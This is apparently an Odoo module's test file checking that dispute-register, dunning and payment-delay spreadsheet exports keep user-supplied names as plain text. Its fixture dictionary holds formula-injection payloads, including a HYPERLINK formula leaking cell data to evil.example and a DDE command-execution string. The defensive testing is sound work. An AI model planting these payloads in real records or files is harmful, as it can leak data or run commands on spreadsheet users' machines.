# Copyright 2026 account_dispute contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl.html).
import base64
import io

import openpyxl

from odoo import fields
from odoo.tests import new_test_user, tagged

from .common import AccountDisputeCommon

# What a sender or a user may write where an export shows it: each starts a
# formula, or would be a link, in a spreadsheet that trusts it.
HOSTILE = {
    "partner": '=1+2"',
    "dispute": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "reason": "+SUM(1,2)",
    "owner": "-2+3",
    "contact": "@SUM(A1:A2)",
    "link": "http://evil.example/leak",
    "company": "=cmd|' /C calc'!A0",
}


@tagged("post_install", "-at_install")
class TestExportTextCells(AccountDisputeCommon):
    """Every text cell of every export is written as text: a name starting
    with "=", "+", "-" or "@" reads back as the same text, never a formula;
    amounts stay numbers and dates dates."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.company.name = HOSTILE["company"]
        cls.partner_a.name = HOSTILE["partner"]
        cls.partner_b.name = HOSTILE["link"]
        reason = cls.env["account.dispute.reason"].create(
            {"name": HOSTILE["reason"], "category": "billing"}
        )
        owner = new_test_user(
            cls.env,
            login="ad_hostile_owner",
            name=HOSTILE["owner"],
            groups="account.group_account_invoice",
        )
        contact = cls.env["res.partner"].create(
            {"name": HOSTILE["contact"], "is_company": True}
        )
        cls.invoices = (
            cls._invoice(1000.0)
            | cls._invoice(300.0, partner=cls.partner_b)
            | cls._invoice(200.0, partner=contact)
        )
        cls.dispute = cls._dispute(
            cls.invoices[0],
            name=HOSTILE["dispute"],
            reason_id=reason.id,
            user_id=owner.id,
        )
        cls._dispute(cls.invoices[1], name=HOSTILE["contact"])

    def _export(self, export_type):
        wizard = self.env["account.dispute.export.wizard"].create(
            {"export_type": export_type, "date_closing": "2026-06-30"}
        )
        wizard.action_export()
        return openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))

    def _cells(self, book):
        return [cell for sheet in book for row in sheet.iter_rows() for cell in row]

    def _assert_text_cells(self, book, expected):
        """Each of ``expected`` is in a text cell, unchanged; the only
        formulas are the totals' SUMIF, no cell is a link."""
        cells = self._cells(book)
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        for value in expected:
            self.assertIn(value, texts)
        formulas = [cell.value for cell in cells if cell.data_type == "f"]
        for formula in formulas:
            self.assertTrue(formula.startswith("=SUMIF("), formula)
        self.assertFalse([cell for cell in cells if cell.hyperlink])
        return formulas

    def test_register(self):
        book = self._export("register")
        formulas = self._assert_text_cells(
            book,
            [
                HOSTILE["dispute"],
                HOSTILE["partner"],
                HOSTILE["reason"],
                HOSTILE["owner"],
                HOSTILE["contact"],
                HOSTILE["link"],
            ],
        )
        self.assertTrue(formulas, "the totals stay formulas")
        sheet = book["Disputes"]
        row = next(
            row
            for row in sheet.iter_rows(min_row=2)
            if row[0].value == self.dispute.name
        )
        self.assertEqual(row[0].value, HOSTILE["dispute"])
        self.assertEqual(row[2].value.date(), fields.Date.to_date("2026-02-01"))
        self.assertEqual(row[2].data_type, "d")
        self.assertEqual(row[10].value, 1000.0)
        self.assertEqual(row[10].data_type, "n")

    def test_dunning_status(self):
        book = self._export("dunning")
        self._assert_text_cells(
            book, [HOSTILE["partner"], HOSTILE["contact"], HOSTILE["link"]]
        )
        rows = {row[0].value: row for row in book["Dunning"].iter_rows(min_row=2)}
        self.assertEqual(rows[HOSTILE["contact"]][5].value, 200.0)
        self.assertEqual(rows[HOSTILE["contact"]][5].data_type, "n")

    def test_payment_delays(self):
        book = self._export("payment_delays")
        formulas = self._assert_text_cells(book, [HOSTILE["company"]])
        self.assertFalse(formulas)
